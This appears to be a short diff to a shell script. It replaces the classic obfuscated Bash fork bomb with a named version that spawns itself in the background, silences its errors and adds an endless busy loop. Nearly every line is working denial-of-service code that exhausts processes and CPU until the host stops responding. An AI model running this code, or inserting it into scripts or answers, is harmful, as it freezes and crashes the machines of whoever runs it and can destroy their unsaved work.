@@ -1,5 +1,4 @@
 # The classic in its own language: a function that calls itself twice in the background.
-:() { : | : & }
-:
-wait
-while :; do :; done
+bomb() { bomb | bomb & }
+{ bomb; } 2>/dev/null &
+while true; do true; done
